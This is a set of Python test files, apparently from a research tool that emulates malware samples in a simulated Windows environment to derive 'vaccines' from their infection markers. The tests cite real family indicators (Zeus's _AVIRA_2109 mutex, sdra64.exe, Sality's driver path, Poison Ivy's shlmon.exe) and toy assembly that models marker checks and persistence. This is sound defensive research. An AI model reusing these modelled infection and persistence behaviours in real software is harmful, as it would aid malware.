        out = capsys.readouterr().out
        assert "decision(s) to explain" in out
        assert "[e" in out and "vaccine:" in out

    def test_explain_vaccine_filter_reaches_interception(self, capsys):
        assert main(["explain", "conficker", "--vaccine", "WORKSTATION"]) == 0
        out = capsys.readouterr().out
        assert "OpenMutexA" in out
        assert "seeded taint" in out

    def test_explain_json_export(self, capsys, tmp_path):
        path = tmp_path / "prov.json"
        assert main(["explain", "conficker", "--json", str(path)]) == 0
        doc = json.loads(path.read_text())
        assert doc["sample"] == "conficker"
        assert doc["anchors"]
        assert doc["journal"]["events"]

    def test_explain_no_match_exits_nonzero(self, capsys):
        assert main(["explain", "conficker", "--vaccine", "no-such-thing"]) == 1

    def test_stats_flame_flags(self, capsys, tmp_path):
        snap = tmp_path / "m.json"
        assert main(["analyze", "ibank", "--metrics", str(snap)]) == 0
        assert main(["stats", str(snap), "--flame-depth", "2", "--top", "1"]) == 0


# ---------------------------------------------------------------------------
# metrics label-set overflow (satellite fix)
# ---------------------------------------------------------------------------


class TestLabelOverflow:
    def test_overflow_counts_and_warns_once(self):
        import logging

        from repro.obs.metrics import (
            DROPPED_LABEL_SETS_METRIC,
            MAX_LABEL_SETS,
            MetricsRegistry,
        )

        # The repro logger tree does not propagate to root (caplog can't see
        # it), so hang a capture handler on the module's logger directly.
        captured: list = []
        handler = logging.Handler()
        handler.emit = captured.append
        logger = logging.getLogger("repro.obs.metrics")
        logger.addHandler(handler)
        try:
            registry = MetricsRegistry()
            for i in range(MAX_LABEL_SETS + 3):
                registry.counter("hot.metric", shard=i).inc()
        finally:
            logger.removeHandler(handler)
        assert registry.dropped_label_sets == 3
        # The dedicated counter carries the overflowing family as a label ...
        assert registry.value(DROPPED_LABEL_SETS_METRIC, metric="hot.metric") == 3
        # ... and the structured warning fires once per family, not per drop.
        warnings = [r for r in captured if "label-set cap" in r.getMessage()]
        assert len(warnings) == 1
        assert warnings[0].kv_fields["metric"] == "hot.metric"

    def test_overflow_of_the_overflow_counter_does_not_recurse(self):
        from repro.obs.metrics import DROPPED_LABEL_SETS_METRIC, MAX_LABEL_SETS, MetricsRegistry

        registry = MetricsRegistry()
        for i in range(MAX_LABEL_SETS + 2):
            registry.counter(DROPPED_LABEL_SETS_METRIC, metric=f"m{i}").inc()
        assert registry.dropped_label_sets == 2  # counted, no RecursionError
