"""Impact analysis (mutation + delta classification) and determinism tests."""

import re

import pytest

from repro.core import (
    IdentifierKind,
    Immunization,
    Mechanism,
    select_candidates,
)
from repro.core.determinism import analyze_determinism, build_pattern
from repro.core.impact import ImpactAnalyzer, primary_immunization
from repro.vm import assemble
from repro.winenv import ResourceType


def phase1(src_or_prog, name="s"):
    program = src_or_prog if not isinstance(src_or_prog, str) else assemble(src_or_prog, name=name)
    return program, select_candidates(program)


MARKER_EXIT = (
    '.section .rdata\nm: .asciz "Mker"\n.section .text\n'
    "    push m\n    push 0\n    push 0x1F0001\n    call @OpenMutexA\n"
    "    test eax, eax\n    jnz infected\n"
    "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n"
    "    push 0\n    push 0\n    push 0\n    push 0\n    call @CreateEventA\n"
    "    halt\ninfected:\n    push 0\n    call @ExitProcess\n"
)


class TestImpactAnalysis:
    def test_simulate_presence_gives_full_immunization(self):
        program, report = phase1(MARKER_EXIT)
        cand = report.candidate(ResourceType.MUTEX, "Mker")
        outcome = ImpactAnalyzer().analyze_mechanism(
            program, cand, report.trace, Mechanism.SIMULATE_PRESENCE
        )
        assert outcome.immunization is Immunization.FULL
        assert outcome.mutation_hits >= 1

    def test_enforce_failure_no_effect_on_marker_checker(self):
        program, report = phase1(MARKER_EXIT)
        cand = report.candidate(ResourceType.MUTEX, "Mker")
        outcome = ImpactAnalyzer().analyze_mechanism(
            program, cand, report.trace, Mechanism.ENFORCE_FAILURE
        )
        # OpenMutex already fails naturally; CreateMutex failing is ignored
        # by this sample.
        assert outcome.immunization is Immunization.NONE

    def test_network_type2_detected(self, family_programs):
        program = family_programs["zeus"]
        report = select_candidates(program)
        cand = report.candidate(ResourceType.MUTEX, "_AVIRA_2109")
        outcome = ImpactAnalyzer().analyze_mechanism(
            program, cand, report.trace, Mechanism.SIMULATE_PRESENCE
        )
        assert Immunization.TYPE_II_NETWORK in outcome.effects
        assert Immunization.TYPE_IV_INJECTION in outcome.effects

    def test_kernel_type1_detected(self, family_programs):
        program = family_programs["sality"]
        report = select_candidates(program)
        cand = report.candidate(
            ResourceType.FILE, "c:\\windows\\system32\\drivers\\qatpcks.sys"
        )
        outcome = ImpactAnalyzer().analyze_mechanism(
            program, cand, report.trace, Mechanism.ENFORCE_FAILURE
        )
        assert Immunization.TYPE_I_KERNEL in outcome.effects

    def test_persistence_type3_detected(self, family_programs):
        program = family_programs["poisonivy"]
        report = select_candidates(program)
        cand = report.candidate(ResourceType.FILE, "c:\\windows\\system32\\shlmon.exe")
        outcome = ImpactAnalyzer().analyze_mechanism(
            program, cand, report.trace, Mechanism.ENFORCE_FAILURE
        )
        assert Immunization.TYPE_III_PERSISTENCE in outcome.effects

    def test_priority_order(self):
        assert primary_immunization({Immunization.TYPE_III_PERSISTENCE,
                                     Immunization.FULL}) is Immunization.FULL
        assert primary_immunization({Immunization.TYPE_IV_INJECTION,
                                     Immunization.TYPE_II_NETWORK}) is Immunization.TYPE_II_NETWORK
        assert primary_immunization(set()) is Immunization.NONE

    def test_mutation_scoped_to_identifier(self):
        src = (
            '.section .rdata\na: .asciz "A1"\nb2: .asciz "B2"\n.section .text\n'
            "    push a\n    push 0\n    push 0\n    call @CreateMutexA\n"
            "    push b2\n    push 0\n    push 0\n    call @CreateMutexA\n"
            "    test eax, eax\n    jz d\nd:\n    halt\n"
        )
        program, report = phase1(src)
        cand = report.candidate(ResourceType.MUTEX, "A1")
        outcome = ImpactAnalyzer().analyze_mechanism(
            program, cand, report.trace, Mechanism.ENFORCE_FAILURE
        )
        events = outcome.mutated_run.trace.events_for_api("CreateMutexA")
        assert not events[0].success and events[1].success


ALGO_SRC = r"""
.section .rdata
fmt:    .asciz "Global\\%s-7"
.section .data
buf:    .space 96
name:   .space 64
.section .text
main:
    push 0
    push name
    call @GetComputerNameA
    push name
    push fmt
    push buf
    call @wsprintfA
    add esp, 12
    push buf
    push 0
    push 0x1F0001
    call @OpenMutexA
    test eax, eax
    jnz infected
    push buf
    push 0
    push 0
    call @CreateMutexA
    halt
infected:
    push 0
    call @ExitProcess
"""

PARTIAL_SRC = r"""
.section .rdata
fmt:    .asciz "LOCK-%x-END"
.section .data
buf:    .space 48
.section .text
main:
    call @GetTickCount
    push eax
    push fmt
    push buf
    call @wsprintfA
    add esp, 12
    push buf
    push 0
    push 0
    call @CreateMutexA
    test eax, eax
    jz bail
    halt
bail:
    push 1
    call @ExitProcess
"""

RANDOM_SRC = r"""
.section .rdata
fmt:    .asciz "%x%x"
.section .data
buf:    .space 48
.section .text
main:
    call @GetTickCount
    mov ebx, eax
    call @GetTickCount
    push eax
    push ebx
    push fmt
    push buf
    call @wsprintfA
    add esp, 16
    push buf
    push 0
    push 0
    call @CreateMutexA
    test eax, eax
    jz d
d:
    halt
"""


class TestDeterminism:
    def _classify(self, src):
        program, report = phase1(src)
        event = next(e for e in report.trace.api_calls if e.api == "CreateMutexA")
        return analyze_determinism(program, report.run, event), event

    def test_static_identifier(self):
        result, _ = self._classify(MARKER_EXIT)
        assert result.kind is IdentifierKind.STATIC

    def test_algorithm_deterministic_identifier(self):
        result, event = self._classify(ALGO_SRC)
        assert result.kind is IdentifierKind.ALGORITHM_DETERMINISTIC
        assert result.slice is not None
        assert "GetComputerNameA" in result.slice.env_inputs

    def test_partial_static_identifier_pattern(self):
        result, event = self._classify(PARTIAL_SRC)
        assert result.kind is IdentifierKind.PARTIAL_STATIC
        assert re.match(result.pattern, event.identifier)
        assert re.match(result.pattern, "LOCK-deadbeef-END")
        assert not re.match(result.pattern, "OTHER-123-END")

    def test_fully_random_identifier_discarded(self):
        result, _ = self._classify(RANDOM_SRC)
        assert result.kind is IdentifierKind.NON_DETERMINISTIC

    def test_replay_validation_catches_broken_slice(self):
        program, report = phase1(ALGO_SRC)
        event = next(e for e in report.trace.api_calls if e.api == "CreateMutexA")
        event.extra["identifier_addr"] = None
        result = analyze_determinism(program, report.run, event)
        assert result.kind is IdentifierKind.NON_DETERMINISTIC


class TestBuildPattern:
    def test_literal_runs_escaped(self):
        pattern = build_pattern("a.b|XY", ["static"] * 4 + ["random"] * 2)
        assert pattern == "^" + re.escape("a.b|") + ".+$"

    def test_wildcard_in_middle(self):
        pattern = build_pattern("pre123post", ["static"] * 3 + ["random"] * 3 + ["static"] * 4)
        assert re.match(pattern, "preXYZpost")
        assert not re.match(pattern, "preXYZpost2")

    def test_insufficient_static_context_rejected(self):
        assert build_pattern("ab1234", ["static"] * 2 + ["random"] * 4) is None

    def test_env_bytes_wildcarded(self):
        pattern = build_pattern("id-HOST", ["static"] * 3 + ["env"] * 4)
        assert re.match(pattern, "id-OTHERHOST")

    def test_length_mismatch_returns_none(self):
        assert build_pattern("abc", ["static"]) is None
