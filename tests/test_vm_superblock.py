"""Tier-3 superblock compiler: region discovery, parity, resume, counters.

The heavy semantic guarantees (random programs agree across tiers) live in
``test_cpu_differential.py``; this module pins the structural contracts of
:mod:`repro.vm.superblock` — what becomes a region, what a region reports
through observability, and how snapshot resume interacts with region
entries.
"""

from __future__ import annotations

import pytest

from repro import obs
from repro.vm import CPU, assemble
from repro.vm.cpu import ExitStatus
from repro.vm.superblock import (
    FUTILE_LIMIT,
    MIN_REGION,
    SuperblockCache,
    superblock_cache,
)
from repro.winapi import Dispatcher
from repro.winenv import SystemEnvironment


@pytest.fixture(autouse=True)
def clean_obs():
    obs.reset()
    obs.metrics.enabled = True
    yield
    obs.reset()


def _cache(src: str) -> SuperblockCache:
    return superblock_cache(assemble(src), threshold=0)


def _api_cpu(src: str, **kwargs) -> CPU:
    env = SystemEnvironment()
    proc = env.spawn_process("t.exe")
    return CPU(
        assemble(src),
        environment=env,
        process=proc,
        dispatcher=Dispatcher(env, proc),
        record_instructions=False,
        **kwargs,
    )


class TestRegionDiscovery:
    def test_straight_line_block_is_one_region(self):
        cache = _cache(
            "main:\n    mov eax, 1\n    add eax, 2\n    xor ebx, ebx\n    halt\n"
        )
        region = cache.entries[0]
        assert region is not None and region.kind == "line"
        assert region.length == 3  # halt ends the region, not part of it
        assert all(r is None for r in cache.entries[1:])

    def test_jump_target_splits_regions(self):
        cache = _cache(
            "main:\n"
            "    mov eax, 1\n"
            "    add eax, 2\n"
            "    add ebx, 3\n"
            "target:\n"
            "    add ecx, 4\n"
            "    add edx, 5\n"
            "    halt\n"
            "    jmp target\n"  # unreachable, but makes `target` a leader
        )
        first, second = cache.entries[0], cache.entries[3]
        assert first is not None and first.length == 3
        assert second is not None and second.length == 2

    def test_non_fast_instruction_ends_region(self):
        cache = _cache(
            "main:\n"
            "    mov eax, 1\n"
            "    add eax, 2\n"
            "    call @GetLastError\n"
            "    add ebx, 1\n"
            "    add ecx, 1\n"
            "    halt\n"
        )
        assert cache.entries[0] is not None and cache.entries[0].length == 2
        assert cache.entries[2] is None  # the call itself is no region
        assert cache.entries[3] is not None and cache.entries[3].length == 2

    def test_back_edge_makes_loop_region(self):
        cache = _cache(
            "main:\n    mov ecx, 5\nspin:\n    add eax, ecx\n    dec ecx\n"
            "    jnz spin\n    halt\n"
        )
        region = cache.entries[1]
        assert region is not None and region.kind == "loop"
        assert region.terminator is not None

    def test_short_runs_are_not_regions(self):
        # A single compilable instruction between two calls is below
        # MIN_REGION and must not get a region dispatch.
        cache = _cache(
            "main:\n"
            "    call @GetLastError\n"
            "    add eax, 1\n"
            "    call @GetLastError\n"
            "    halt\n"
        )
        assert MIN_REGION > 1
        assert cache.entries[1] is None


class TestCounters:
    SRC = (
        "main:\n    mov ecx, 200\nspin:\n    mov eax, ecx\n    imul eax, 13\n"
        "    add ebx, eax\n    dec ecx\n    jnz spin\n    halt\n"
    )

    def test_superblock_counters_flow_to_obs(self):
        cpu = CPU(
            assemble(self.SRC),
            record_instructions=False,
            superblocks=True,
            superblock_threshold=0,
        )
        cpu.run()
        assert cpu.status is ExitStatus.HALTED
        assert obs.metrics.total("vm.superblocks.compiled") >= 1
        assert obs.metrics.total("vm.superblocks.entries") >= 1
        assert obs.metrics.total("vm.instructions") == cpu.steps

    def test_fast_steps_counted_without_superblocks(self):
        cpu = CPU(assemble(self.SRC), record_instructions=False, superblocks=False)
        cpu.run()
        assert obs.metrics.total("vm.fast_steps") > 0
        assert obs.metrics.total("vm.superblocks.entries") == 0

    def test_guard_exits_counted_under_taint(self):
        src = (
            ".section .data\nbuf: .space 16\n.section .text\n"
            "    push 0\n    push buf\n    call @GetComputerNameA\n"
            "    xor esi, esi\n"
            "hash:\n"
            "    xor eax, eax\n    movb eax, [buf+esi]\n    test eax, eax\n"
            "    jz done\n    add ebx, eax\n    inc esi\n    jmp hash\n"
            "done:\n    halt\n"
        )
        cpu = _api_cpu(src, superblocks=True, superblock_threshold=0)
        cpu.run()
        assert cpu.status is ExitStatus.HALTED
        assert obs.metrics.total("vm.superblocks.guard_exits") >= 1


class TestFaultPc:
    # The faulting instruction sits at entry+2; every tier must name *its*
    # pc in fault_reason, not the already-advanced successor pc.
    SRC = (
        "main:\n    mov esi, 16\n    mov ebx, 1\n    mov eax, [esi]\n"
        "    add ebx, 2\n    halt\n"
    )

    @pytest.mark.parametrize(
        "kwargs",
        [
            dict(record_instructions=True),
            dict(record_instructions=False, superblocks=False),
            dict(record_instructions=False, superblocks=True, superblock_threshold=0),
        ],
        ids=["slow", "fast", "superblock"],
    )
    def test_fault_reason_names_faulting_pc(self, kwargs):
        cpu = CPU(assemble(self.SRC), **kwargs)
        cpu.run()
        fault_pc = cpu.program.entry + 2
        assert cpu.status is ExitStatus.FAULT
        assert f"pc 0x{fault_pc:08x}" in cpu.fault_reason
        assert cpu.steps == 3  # the faulting step is charged

    def test_fault_state_identical_across_tiers(self):
        states = []
        for kwargs in (
            dict(record_instructions=True),
            dict(record_instructions=False, superblocks=False),
            dict(record_instructions=False, superblocks=True, superblock_threshold=0),
        ):
            cpu = CPU(assemble(self.SRC), **kwargs)
            cpu.run()
            states.append(
                (cpu.status, cpu.steps, cpu.pc, dict(cpu.regs), cpu.fault_reason)
            )
        assert states[0] == states[1] == states[2]


class TestBudgetAndResume:
    SRC = (
        "main:\n    mov ecx, 100\nspin:\n    mov eax, ecx\n    add ebx, eax\n"
        "    imul eax, 3\n    dec ecx\n    jnz spin\n    halt\n"
    )

    def _reference(self, max_steps):
        cpu = CPU(assemble(self.SRC), max_steps=max_steps, record_instructions=True)
        cpu.run()
        return cpu

    @pytest.mark.parametrize("budget", [7, 50, 123, 5000])
    def test_budget_exhausts_at_same_instruction(self, budget):
        ref = self._reference(budget)
        cpu = CPU(
            assemble(self.SRC),
            max_steps=budget,
            record_instructions=False,
            superblocks=True,
            superblock_threshold=0,
        )
        cpu.run()
        assert (cpu.status, cpu.steps, cpu.pc, dict(cpu.regs)) == (
            ref.status,
            ref.steps,
            ref.pc,
            dict(ref.regs),
        )

    @pytest.mark.parametrize("pause_at", [8, 9, 10, 11, 12])
    def test_resume_mid_region_matches_full_run(self, pause_at):
        """A resumed pc that lands mid-region executes per-instruction until
        the next region entry — final state must match one uninterrupted
        superblocked run and the slow reference."""
        program = assemble(self.SRC)
        ref = self._reference(20_000)

        first = CPU(
            program,
            max_steps=pause_at,
            record_instructions=False,
            superblocks=True,
            superblock_threshold=0,
        )
        first.run()
        assert first.status is ExitStatus.BUDGET

        resumed = CPU.resume(
            program,
            None,
            None,
            None,
            memory=first.memory,
            regs=first.regs,
            reg_taint=first.reg_taint,
            flags=first.flags,
            flag_taint=first.flag_taint,
            pc=first.pc,
            steps=first.steps,
            callstack=first.callstack,
            trace=first.trace,
            max_steps=20_000,
            superblocks=True,
            superblock_threshold=0,
        )
        resumed.run()
        assert resumed.status is ExitStatus.HALTED
        assert (resumed.steps, resumed.pc, dict(resumed.regs)) == (
            ref.steps,
            ref.pc,
            dict(ref.regs),
        )


class TestFutility:
    def test_persistently_tainted_region_stops_being_attempted(self):
        src = (
            ".section .data\nbuf: .space 80\n.section .text\n"
            "    push 0\n    push buf\n    call @GetComputerNameA\n"
            "    mov edi, 200\n"
            "again:\n"
            "    xor esi, esi\n"
            "hash:\n"
            "    xor eax, eax\n    movb eax, [buf+esi]\n    test eax, eax\n"
            "    jz next\n    add ebx, eax\n    inc esi\n    jmp hash\n"
            "next:\n    dec edi\n    jnz again\n    halt\n"
        )
        cpu = _api_cpu(src, superblocks=True, superblock_threshold=0)
        cpu.run()
        assert cpu.status is ExitStatus.HALTED
        futiles = [
            r.futile
            for r in cpu._superblocks.entries
            if r is not None and r.futile
        ]
        # At least one region hit the limit and none overshot it: the
        # guarded dispatcher stopped paying per-entry exceptions for it.
        assert futiles and max(futiles) == FUTILE_LIMIT


class TestRegionChaining:
    """Compiled exits hand the dispatcher the successor Region directly
    (PR 10): a chain of hot regions costs one probe, not one per region."""

    # prologue region -> loop region -> epilogue region, all hot.
    SRC = (
        "main:\n    mov ecx, 50\n    xor ebx, ebx\n"
        "spin:\n    mov eax, ecx\n    imul eax, 13\n    add ebx, eax\n"
        "    dec ecx\n    jnz spin\n"
        "done:\n    mov edx, ebx\n    mov esi, 7\n    halt\n"
    )

    def _run(self, **kwargs):
        cpu = CPU(
            assemble(self.SRC),
            record_instructions=False,
            superblocks=True,
            superblock_threshold=0,
            **kwargs,
        )
        cpu.run()
        return cpu

    def test_closures_return_their_successor(self):
        cpu = self._run()
        entries = cpu._superblocks.entries
        regions = [r for r in entries if r is not None and r.fn is not None]
        assert len(regions) == 3
        prologue, loop, epilogue = sorted(regions, key=lambda r: r.entry)
        # The region table is fixed at discovery, so codegen resolved the
        # static successors into the closures' default args.
        assert "_NF" in prologue.fn.__source__   # falls through into the loop
        assert "_NF" in loop.fn.__source__       # jnz not-taken exits into done
        assert "_NT" not in loop.fn.__source__   # the back-edge never chains
        assert "return True" in epilogue.fn.__source__  # halt: no successor

    def test_chain_counts_every_region_entered(self):
        cpu = self._run()
        assert cpu.status is ExitStatus.HALTED
        # All three regions were entered (prologue once, loop once per
        # back-edge re-dispatch bundle, epilogue once) and the chained
        # entries still land in the counter.
        assert cpu._sb_entries >= 3
        assert obs.metrics.total("vm.superblocks.entries") == cpu._sb_entries
        assert obs.metrics.total("vm.instructions") == cpu.steps

    def test_chaining_preserves_machine_state(self):
        chained = self._run()
        slow = CPU(assemble(self.SRC), record_instructions=False, superblocks=False)
        slow._allow_fast = False
        slow.run()
        assert chained.status is slow.status is ExitStatus.HALTED
        assert chained.regs == slow.regs
        assert chained.steps == slow.steps
        assert chained.flags == slow.flags

    def test_chained_run_under_taint_guards(self):
        """The guarded tier-3 dispatcher consumes chained successors through
        the same validation as probed entries (futility, warmth)."""
        src = (
            ".section .data\nbuf: .space 16\n.section .text\n"
            "    push 0\n    push buf\n    call @GetComputerNameA\n"
            "    mov ecx, 40\n    xor ebx, ebx\n"
            "spin:\n    mov eax, ecx\n    imul eax, 13\n    add ebx, eax\n"
            "    dec ecx\n    jnz spin\n"
            "done:\n    mov edx, ebx\n    mov esi, 7\n    halt\n"
        )
        guarded = _api_cpu(src, superblocks=True, superblock_threshold=0)
        guarded.run()
        plain = _api_cpu(src, superblocks=False)
        plain.run()
        assert guarded.status is plain.status is ExitStatus.HALTED
        assert guarded.regs == plain.regs
        assert guarded.steps == plain.steps

    @pytest.mark.parametrize("budget", [3, 7, 55, 120])
    def test_budget_parity_with_chaining(self, budget):
        fast = CPU(
            assemble(self.SRC),
            record_instructions=False,
            superblocks=True,
            superblock_threshold=0,
            max_steps=budget,
        )
        fast.run()
        slow = CPU(
            assemble(self.SRC), record_instructions=False,
            superblocks=False, max_steps=budget,
        )
        slow._allow_fast = False
        slow.run()
        assert fast.status is slow.status
        assert fast.steps == slow.steps
        assert fast.pc == slow.pc
        assert fast.regs == slow.regs
