"""Tests for named kernel objects, pipes, enumeration, and wide variants."""

import pytest

from repro.winapi import REGISTRY, hooked_api_count, lookup
from repro.winenv import IntegrityLevel, Win32Error

MED = IntegrityLevel.MEDIUM


class TestNamedObjects:
    def test_semaphore_create_and_open(self, run_asm, env):
        cpu = run_asm(
            '.section .rdata\nn: .asciz "SemMarker"\n.section .text\n'
            "    push n\n    push 1\n    push 1\n    push 0\n    call @CreateSemaphoreA\n"
            "    push n\n    push 0\n    push 0x1F0003\n    call @OpenSemaphoreA\n    halt\n"
        )
        assert all(e.success for e in cpu.trace.api_calls)
        assert env.mutexes.exists("SemMarker")

    def test_open_missing_semaphore_fails(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nn: .asciz "NoSem"\n.section .text\n'
            "    push n\n    push 0\n    push 0x1F0003\n    call @OpenSemaphoreA\n    halt\n"
        )
        assert cpu.regs["eax"] == 0

    def test_file_mapping_already_exists(self, run_asm, env):
        env.mutexes.create("ShmMarker", MED)
        cpu = run_asm(
            '.section .rdata\nn: .asciz "ShmMarker"\n.section .text\n'
            "    push n\n    push 0\n    push 0\n    push 4\n    push 0\n    push 0\n"
            "    call @CreateFileMappingA\n    halt\n"
        )
        assert cpu.regs["eax"] >= 0x100
        assert cpu.process.last_error == int(Win32Error.ALREADY_EXISTS)

    def test_atom_roundtrip(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nn: .asciz "AtomMarker"\n.section .text\n'
            "    push n\n    call @GlobalAddAtomA\n    mov ebx, eax\n"
            "    push n\n    call @GlobalFindAtomA\n    halt\n"
        )
        assert cpu.regs["eax"] == cpu.regs["ebx"] >= 0xC000

    def test_find_missing_atom_tainted_predicate(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nn: .asciz "NoAtom"\n.section .text\n'
            "    push n\n    call @GlobalFindAtomA\n"
            "    test eax, eax\n    jz d\nd:\n    halt\n"
        )
        assert cpu.regs["eax"] == 0
        assert len(cpu.trace.predicates) == 1


class TestNamedPipes:
    CREATE = (
        '.section .rdata\np: .asciz "\\\\\\\\.\\\\pipe\\\\_avira_2109"\n.section .text\n'
        "    push 1\n    push 0\n    push 3\n    push p\n    call @CreateNamedPipeA\n    halt\n"
    )

    def test_create_pipe_in_file_namespace(self, run_asm, env):
        cpu = run_asm(self.CREATE)
        assert cpu.regs["eax"] >= 0x100
        assert env.filesystem.exists("\\\\.\\pipe\\_avira_2109")

    def test_pipe_event_labelled_file(self, run_asm):
        from repro.winenv import ResourceType

        cpu = run_asm(self.CREATE)
        event = cpu.trace.api_calls[0]
        assert event.resource_type is ResourceType.FILE
        assert event.identifier.lower().startswith("\\\\.\\pipe\\")

    def test_wait_named_pipe_probe(self, run_asm, env):
        cpu = run_asm(
            '.section .rdata\np: .asciz "\\\\\\\\.\\\\pipe\\\\nothere"\n.section .text\n'
            "    push 100\n    push p\n    call @WaitNamedPipeA\n"
            "    test eax, eax\n    jz d\nd:\n    halt\n"
        )
        assert cpu.regs["eax"] == 0
        assert len(cpu.trace.predicates) == 1

    def test_non_pipe_path_rejected(self, run_asm):
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\notapipe"\n.section .text\n'
            "    push 1\n    push 0\n    push 3\n    push p\n    call @CreateNamedPipeA\n    halt\n"
        )
        assert cpu.regs["eax"] == 0xFFFFFFFF


class TestEnumeration:
    def test_toolhelp_walk_finds_explorer(self, run_asm):
        cpu = run_asm(
            ".section .data\nsnap: .dword 0\nentry: .space 64\n.section .text\n"
            "    push 0\n    push 2\n    call @CreateToolhelp32Snapshot\n"
            "    mov [snap], eax\n"
            "    push entry\n    push [snap]\n    call @Process32First\n"
            "loop:\n"
            "    push entry\n    push [snap]\n    call @Process32Next\n"
            "    test eax, eax\n    jnz loop\n    halt\n"
        )
        names = {e.extra.get("process_name") for e in cpu.trace.api_calls
                 if e.api.startswith("Process32")}
        assert "explorer.exe" in names

    def test_reg_enum_values(self, run_asm, env):
        env.registry.create_key("hklm\\software\\en", MED)
        env.registry.set_value("hklm\\software\\en", "alpha", "1", MED)
        cpu = run_asm(
            '.section .rdata\nk: .asciz "software\\\\en"\n'
            ".section .data\nh: .dword 0\nname: .space 32\n.section .text\n"
            "    push h\n    push 0xF003F\n    push 0\n    push k\n    push 0x80000002\n"
            "    call @RegOpenKeyExA\n"
            "    push 32\n    push name\n    push 0\n    push [h]\n    call @RegEnumValueA\n"
            "    halt\n"
        )
        text, taints = cpu.memory.read_cstring(cpu.program.labels["name"])
        assert text == "alpha" and all(taints)

    def test_reg_enum_key_exhaustion(self, run_asm, env):
        env.registry.create_key("hklm\\software\\p2", MED)
        cpu = run_asm(
            '.section .rdata\nk: .asciz "software\\\\p2"\n'
            ".section .data\nh: .dword 0\nname: .space 32\n.section .text\n"
            "    push h\n    push 0xF003F\n    push 0\n    push k\n    push 0x80000002\n"
            "    call @RegOpenKeyExA\n"
            "    push 32\n    push name\n    push 0\n    push [h]\n    call @RegEnumKeyExA\n"
            "    halt\n"
        )
        assert cpu.regs["eax"] == int(Win32Error.NO_MORE_ITEMS)

    def test_winexec_spawns_child(self, run_asm, env):
        env.filesystem.create("c:\\tool.exe", MED, content=b"MZ")
        cpu = run_asm(
            '.section .rdata\nc: .asciz "c:\\\\tool.exe"\n.section .text\n'
            "    push 1\n    push c\n    call @WinExec\n    halt\n"
        )
        assert cpu.regs["eax"] >= 32
        assert env.processes.find_by_name("tool.exe") is not None


class TestWideVariants:
    def test_wide_aliases_share_labels(self):
        a, w = lookup("OpenMutexA"), lookup("OpenMutexW")
        assert w.identifier_arg == a.identifier_arg
        assert w.failure == a.failure
        assert w.name == "OpenMutexW"

    def test_wide_call_executes(self, run_asm, env):
        env.mutexes.create("WideMtx", MED)
        cpu = run_asm(
            '.section .rdata\nm: .asciz "WideMtx"\n.section .text\n'
            "    push m\n    push 0\n    push 0x1F0001\n    call @OpenMutexW\n    halt\n"
        )
        assert cpu.regs["eax"] >= 0x100

    def test_hooked_count_matches_paper_scale(self):
        """Paper hooks 89 resource-related calls; we label 85-95."""
        assert 85 <= hooked_api_count() <= 95

    def test_wide_and_ansi_distinct_alignment_keys(self, run_asm, env):
        env.mutexes.create("M", MED)
        cpu = run_asm(
            '.section .rdata\nm: .asciz "M"\n.section .text\n'
            "    push m\n    push 0\n    push 0x1F0001\n    call @OpenMutexA\n"
            "    push m\n    push 0\n    push 0x1F0001\n    call @OpenMutexW\n    halt\n"
        )
        keys = {e.context_key() for e in cpu.trace.api_calls}
        assert len(keys) == 2
