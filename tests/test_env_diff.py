"""Environment-diff (infection forensics) tests."""

import pytest

from repro.core import run_sample
from repro.corpus import build_family
from repro.winenv import IntegrityLevel, SystemEnvironment
from repro.winenv.diff import environment_diff


class TestDiffBasics:
    def test_identical_environments_no_changes(self):
        env = SystemEnvironment()
        diff = environment_diff(env, env.clone())
        assert not diff.changed
        assert diff.render() == "(no changes)"

    def test_added_file_detected(self):
        env = SystemEnvironment()
        after = env.clone()
        after.filesystem.create("c:\\new.bin", IntegrityLevel.MEDIUM)
        diff = environment_diff(env, after)
        assert "c:\\new.bin" in diff.added("files")

    def test_removed_and_modified_files(self):
        env = SystemEnvironment()
        env.filesystem.create("c:\\gone", IntegrityLevel.MEDIUM)
        env.filesystem.create("c:\\edit", IntegrityLevel.MEDIUM, content=b"a")
        after = env.clone()
        after.filesystem.delete("c:\\gone", IntegrityLevel.MEDIUM)
        after.filesystem.write("c:\\edit", IntegrityLevel.MEDIUM, b"b")
        diff = environment_diff(env, after)
        assert "c:\\gone" in diff.namespaces["files"].removed
        assert "c:\\edit" in diff.namespaces["files"].modified

    def test_registry_value_change_is_modified(self):
        env = SystemEnvironment()
        env.registry.create_key("hklm\\software\\x", IntegrityLevel.MEDIUM)
        after = env.clone()
        after.registry.set_value("hklm\\software\\x", "v", 1, IntegrityLevel.MEDIUM)
        diff = environment_diff(env, after)
        assert "hklm\\software\\x" in diff.namespaces["registry"].modified

    def test_mutex_and_service_added(self):
        env = SystemEnvironment()
        after = env.clone()
        after.mutexes.create("Mk", IntegrityLevel.MEDIUM)
        after.services.create("svc9", "c:\\x.exe", IntegrityLevel.MEDIUM)
        diff = environment_diff(env, after)
        assert "Mk" in diff.added("mutexes")
        assert "svc9" in diff.added("services")

    def test_render_mentions_counts(self):
        env = SystemEnvironment()
        after = env.clone()
        after.mutexes.create("A", IntegrityLevel.MEDIUM)
        text = environment_diff(env, after).render()
        assert "mutexes" in text and "+ A" in text


class TestInfectionForensics:
    def test_zeus_footprint(self, family_programs):
        base = SystemEnvironment()
        run = run_sample(family_programs["zeus"], environment=base,
                         record_instructions=False)
        diff = environment_diff(base, run.environment)
        files = diff.added("files")
        assert "c:\\windows\\system32\\sdra64.exe" in files
        assert "_AVIRA_2109" in diff.added("mutexes")
        assert "hklm\\software\\microsoft\\windows\\currentversion\\run" in (
            diff.namespaces["registry"].modified
        )

    def test_vaccinated_machine_minimal_footprint(self, family_programs):
        from repro import AutoVac, VaccinePackage, deploy

        program = family_programs["sality"]
        vaccines = AutoVac().analyze(program).vaccines
        host = SystemEnvironment()
        deploy(VaccinePackage(vaccines=vaccines), host)
        before = host.clone()
        run = run_sample(program, environment=host, record_instructions=False)
        diff = environment_diff(before, run.environment)
        # The only footprint is the malware process itself — no driver, no
        # persistence, no library drop.
        assert not diff.added("services")
        assert not diff.namespaces["registry"].modified
        assert all("drivers" not in f for f in diff.added("files"))

    def test_benign_programs_leave_no_malicious_footprint(self, benign_programs):
        base = SystemEnvironment()
        for program in benign_programs:
            run = run_sample(program, environment=base, record_instructions=False,
                             integrity=IntegrityLevel.MEDIUM)
            diff = environment_diff(base, run.environment)
            assert all(not f.endswith(".sys") for f in diff.added("files")), program.name
